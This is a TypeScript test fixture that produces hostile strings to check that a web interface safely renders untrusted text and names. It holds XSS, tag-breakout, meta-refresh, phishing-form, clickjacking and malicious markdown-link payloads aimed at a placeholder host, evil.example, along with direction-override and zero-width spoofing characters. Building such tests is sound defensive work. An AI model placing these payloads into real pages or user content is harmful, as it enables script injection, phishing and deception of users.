/** Where requests would go that nobody is to make. */
const evil = 'https://evil.example';

/** Turns the direction of what follows, and ends that; and a sign that nobody sees. */
const turned = '\u202Etxet\u202C';
const unseen = '\u200B';

/**
 * What somebody writes who wants a page to do something: scripts, requests, forms, links, covers. It
 * begins and ends with the name of the place where it stands, so that a test can tell that it got there.
 */
export function hostileText(place: string): string {
  return [
    `${beginOf(place)} <img src="${evil}/${place}.png" onerror="pwn()"><script>pwn()</script>`,
    `</script></textarea></title></style><svg onload=pwn()><style>* { display: none }</style>`,
    `<iframe srcdoc="<script>parent.pwn()</script>"></iframe><base href="${evil}/"><link rel=stylesheet href="${evil}/a.css">`,
    `<meta http-equiv=refresh content="0;url=${evil}"><form action="${evil}"><button>Allow</button></form>`,
    `<a href="javascript:pwn()" style="position:fixed;inset:0;z-index:99">cover</a>`,
    '',
    `![picture](${evil}/${place}.png) ![script](javascript:pwn()) ![data](data:image/svg+xml,<svg/onload=pwn()>)`,
    `[one](javascript:pwn()) [two](JaVaScRiPt:pwn()) [three](data:text/html,<script>pwn()</script>) [four](vbscript:pwn())`,
    `[five](&#106;avascript:pwn()) [six](//evil.example) [seven](/v1/locks) [eight](#/runs/other) <javascript:pwn()> [nine][ref]`,
    `[https://bank.example/login](${evil}/login) ${turned} [bank${unseen}.example](${evil}) [mail](mailto:a@evil.example)`,
    '',
    `[ref]: javascript:pwn()`,
    '',
    endOf(place),
  ].join('\n');
}

/** The same in the few characters of a name: no slash, and nothing that its agent's prompt would end with. */
export function hostileName(place: string): string {
  return `${beginOf(place)}<img src=x onerror=pwn()>"'>${turned}${'W'.repeat(30)}`; // wider than 360 px
}

/** What stands before the first attempt, in a text and in a name. */
export const beginOf = (place: string): string => `«${place}»`;
/** What stands behind the last one of a text. */
export const endOf = (place: string): string => `«end of ${place}»`;
